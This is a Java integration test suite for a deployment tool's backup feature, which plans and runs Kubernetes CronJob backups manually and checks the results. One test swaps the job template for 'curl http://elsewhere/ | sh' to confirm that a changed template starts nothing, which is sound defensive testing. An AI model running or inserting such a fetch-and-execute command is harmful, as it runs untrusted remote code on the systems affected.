package dev.slipway.backups;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.slipway.backups.BackupActs.Wish;
import dev.slipway.deployments.DeploymentState;
import dev.slipway.kernel.DomainFailure;
import dev.slipway.plans.OperationId;
import dev.slipway.plans.Operations;
import dev.slipway.plans.Plans;
import dev.slipway.policies.spi.ChangeKind;
import dev.slipway.testing.Line;
import dev.slipway.testing.SlipwayTest;
import dev.slipway.testing.Visitor;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;

/// From a button on the page of a backup to the run that it lists, by a plan like any other.
@SlipwayTest
@Tag("slow")
class BackupActTests {

  private static final String WORKS = "mysqldump --all-databases > /tmp/all.sql";
  private static final String LACKS_AWS =
      "mysqldump > /tmp/all.sql && aws s3 cp /tmp/all.sql s3://x/";

  @Autowired ApplicationContext context;
  @Autowired JdbcClient jdbc;
  @LocalServerPort int port;
  private BackupStage stage;
  private Visitor kofi;

  @BeforeEach
  void prepare() {
    stage = new BackupStage(context);
    stage.database();
    kofi = Visitor.signedIn(port, "kofi");
  }

  @AfterEach
  void close() {
    stage.close();
  }

  @Test
  void aRunMakesOneJobFromTheTemplateAndIsListedWithItsEvidence() {
    stage.cronJob("Forbid", WORKS);
    stage.look();
    assertThat(stage.view().state()).isEqualTo(BackupState.PENDING);
    assertThat(Visitor.page(kofi.get(stage.view().href())).select("header .actions").text())
        .contains("Run now", "Suspend");

    var answer = stage.ask(kofi, "backup-run", Map.of("reason", "Before the schema changes"));
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(302);
    var done = stage.ended(BackupStage.deployment(answer));
    assertThat(done.state()).as(done.why()).isEqualTo(DeploymentState.SUCCEEDED);
    assertThat(done.why()).contains("Job " + stage.name + "-backup-", "succeeded");

    var job = stage.jobs().getFirst();
    assertThat(stage.jobs()).hasSize(1);
    var cron = stage.yard.cluster().read("cronjobs.batch", "default", stage.name + "-backup");
    assertThat(job.at("/metadata/annotations/cronjob.kubernetes.io~1instantiate").asString())
        .isEqualTo("manual");
    assertThat(job.at("/metadata/annotations/note").asString()).isEqualTo("kept");
    assertThat(job.at("/metadata/annotations/slipway.dev~1deployment").asString())
        .isEqualTo(done.id().toString());
    assertThat(job.at("/metadata/labels/of").asString()).isEqualTo("backup");
    var owner = job.at("/metadata/ownerReferences/0");
    assertThat(owner.path("uid")).isEqualTo(cron.orElseThrow().at("/metadata/uid"));
    assertThat(owner.path("controller").asBoolean()).isTrue();
    assertThat(owner.has("blockOwnerDeletion")).isFalse();
    assertThat(job.at("/spec/template/spec/containers/0/command"))
        .isEqualTo(cron.get().at("/spec/jobTemplate/spec/template/spec/containers/0/command"));

    stage.look();
    assertThat(stage.view().state()).isEqualTo(BackupState.GOOD);
    assertThat(stage.runs())
        .singleElement()
        .satisfies(run -> assertThat(run.detail()).isEqualTo(Fields.BY_A_PLAN));
    assertThat(acts(java.util.Objects.requireNonNull(done.plan()).value()))
        .contains("plan.proposed", "plan.started");
    assertThat(Visitor.page(kofi.get("/deployments/" + done.id())).select("h1, main").text())
        .contains("Backup of " + stage.name)
        .doesNotContain("hunter2");
  }

  @Test
  void theSameWishSentTwiceMakesOneJob() {
    stage.cronJob("Allow", WORKS);
    stage.look();
    var wish =
        new Wish(
            stage.view().id(),
            ChangeKind.BACKUP_RUN,
            "Sent twice by a tired proxy",
            null,
            Set.of());
    var acts = stage.yard.bean(BackupActs.class);
    var seen = acts.preview(wish, stage.yard.owner()).hash();
    var key = UUID.randomUUID().toString();
    var first = acts.propose(wish, seen, key, stage.yard.owner());
    var second = acts.propose(wish, seen, key, stage.yard.owner());
    assertThat(second.id()).isEqualTo(first.id());
    stage.ended(java.util.Objects.requireNonNull(first.operation()).value());
    assertThat(stage.jobs()).hasSize(1);
  }

  @Test
  void aRunThatFailsIsTheFailureOfItsDeploymentAndOfTheBackup() {
    stage.cronJob("Forbid", LACKS_AWS);
    stage.look();
    var done =
        stage.ended(
            BackupStage.deployment(
                stage.ask(kofi, "backup-run", Map.of("reason", "Does it work at all?"))));
    assertThat(done.state()).isEqualTo(DeploymentState.FAILED);
    assertThat(done.why()).contains("failed (BackoffLimitExceeded)");
    stage.look();
    assertThat(stage.view().state()).isEqualTo(BackupState.FAILING);
  }

  @Test
  void anAbortEndsTheWatchingAndSaysThatTheRunGoesOn() {
    stage.cronJob("Forbid", WORKS, true);
    stage.look();
    var deployment =
        BackupStage.deployment(stage.ask(kofi, "backup-run", Map.of("reason", "To be given up")));
    await()
        .atMost(BackupStage.LONGEST)
        .until(() -> stage.summary(deployment).progress().contains("waits"));
    stage
        .yard
        .bean(Operations.class)
        .abort(new OperationId(deployment), "No need of it any more", stage.yard.owner());
    assertThat(stage.ended(deployment).why())
        .contains("No need of it any more", "a run that is under way goes on")
        .doesNotContain("rolled back");
    assertThat(stage.jobs()).hasSize(1);
  }

  @Test
  void aRunThatIsUnderWayIsNotJoinedByAnother() {
    stage.cronJob("Forbid", WORKS);
    stage.look();
    var cron = stage.yard.cluster().read("cronjobs.batch", "default", stage.name + "-backup");
    stage
        .yard
        .cluster()
        .apply(
            """
            apiVersion: batch/v1
            kind: Job
            metadata:
              name: by-hand
              namespace: default
              ownerReferences: [{apiVersion: batch/v1, kind: CronJob, name: %s-backup, uid: %s, controller: true}]
            spec: {suspend: true, template: {spec: {restartPolicy: Never, containers: [{name: dump, image: 'mysql:8.0.36'}]}}}
            """
                .formatted(stage.name, cron.orElseThrow().at("/metadata/uid").asString()));
    var page = kofi.get(stage.view().href() + "/change?kind=backup-run");
    assertThat(Visitor.page(page).select("main").text())
        .contains("This cannot be planned now", "by-hand is under way", "concurrencyPolicy Forbid");
  }

  @Test
  void aTemplateThatChangesAfterThePlanStartsNothing() {
    stage.cronJob("Forbid", WORKS);
    stage.look();
    var plans = stage.yard.bean(Plans.class);
    var plan = plans.propose(stage.wish(stage.name), stage.yard.owner(), true);
    stage.cronJob("Forbid", "curl http://elsewhere/ | sh");
    var operation =
        plans.start(plan.id(), plan.hash(), UUID.randomUUID().toString(), stage.yard.owner());
    var done = stage.ended(operation.value());
    assertThat(done.state()).isEqualTo(DeploymentState.FAILED);
    assertThat(done.why()).contains("it was planned on base");
    assertThat(stage.jobs()).isEmpty();
  }

  @Test
  @Line("emis-15")
  void aBackupIsSuspendedKnowinglyAndResumed() {
    stage.cronJob("Forbid", WORKS);
    stage.look();
    var path = stage.view().href() + "/change?kind=backup-suspend";
    assertThat(Visitor.page(kofi.get(path)).select("main").text())
        .contains("counts as not protecting from then on", "suspend: true");

    var unread = stage.ask(kofi, "backup-suspend", Map.of("reason", "The disk is being moved"));
    assertThat(unread.headers().firstValue("Location").orElse("")).contains("/plans/");
    assertThat(suspended()).isFalse();

    var done =
        stage.ended(
            BackupStage.deployment(
                stage.ask(
                    kofi,
                    "backup-suspend",
                    Map.of("reason", "The disk is being moved", "acknowledged", "caution"))));
    assertThat(done.state()).as(done.why()).isEqualTo(DeploymentState.SUCCEEDED);
    assertThat(suspended()).isTrue();
    stage.look();
    assertThat(stage.view().state()).isEqualTo(BackupState.PAUSED);

    var back =
        stage.ended(
            BackupStage.deployment(
                stage.ask(kofi, "backup-resume", Map.of("reason", "The disk has been moved"))));
    assertThat(back.state()).as(back.why()).isEqualTo(DeploymentState.SUCCEEDED);
    assertThat(suspended()).isFalse();
  }

  @Test
  void aCronJobThatIsNoBackupIsNeitherRunNorStopped() {
    stage.cronJob("Forbid", WORKS);
    stage.look();
    var backup = stage.view();
    var runs = stage.wish(ChangeKind.BACKUP_RUN, backup.id());
    var stops = stage.wish(ChangeKind.BACKUP_SUSPEND, backup.id());
    var plans = stage.yard.bean(Plans.class);
    assertThat(plans.preview(runs, stage.yard.owner()).isBlocked()).isFalse();
    stage
        .yard
        .bean(BackupEdits.class)
        .edit(new EditBackup(backup.id(), null, null, null, false, null), stage.yard.owner());
    assertThat(Visitor.page(kofi.get(backup.href())).select("header .actions").text())
        .contains("Run now " + backup.name() + " is no backup", "Suspend " + backup.name());
    for (var wish : List.of(runs, stops)) {
      assertThatThrownBy(() -> plans.propose(wish, stage.yard.owner(), true))
          .isInstanceOf(DomainFailure.class)
          .hasMessageContaining("neither run nor stopped from here");
    }
    assertThat(stage.jobs()).isEmpty();
    assertThat(suspended()).isFalse();
  }

  @Test
  void whoMayNotIsToldWhoMayAndNothingIsPlanned() {
    stage.cronJob("Forbid", WORKS);
    stage.look();
    var vera = Visitor.signedIn(port, "vera");
    assertThat(Visitor.page(vera.get(stage.view().href())).select("header .actions").text())
        .contains("You may not. Ask");
    assertThat(
            vera.post(
                    stage.view().href() + "/change",
                    Map.of("kind", "backup-run", "reason", "Just to try it"))
                .statusCode())
        .isEqualTo(403);
    assertThat(stage.jobs()).isEmpty();
  }

  @Test
  void aPlanStandsWhereTheRulesAreStrictestAndNowhereElse() {
    stage.cronJob("Forbid", WORKS);
    stage.look();
    stage.yard.launch("other-" + stage.name, "app:1.0.0");
    var elsewhere = stage.wish("other-" + stage.name);
    assertThatThrownBy(
            () -> stage.yard.bean(Plans.class).propose(elsewhere, stage.yard.owner(), true))
        .isInstanceOf(DomainFailure.class)
        .hasMessageContaining("stand on " + stage.name);
  }

  private boolean suspended() {
    return stage
        .yard
        .cluster()
        .read("cronjobs.batch", "default", stage.name + "-backup")
        .orElseThrow()
        .at("/spec/suspend")
        .asBoolean(false);
  }

  private List<@Nullable String> acts(UUID plan) {
    return jdbc.sql("select action from audit.audit_event where subject_id = ?")
        .param(plan.toString())
        .query(String.class)
        .list();
  }
}
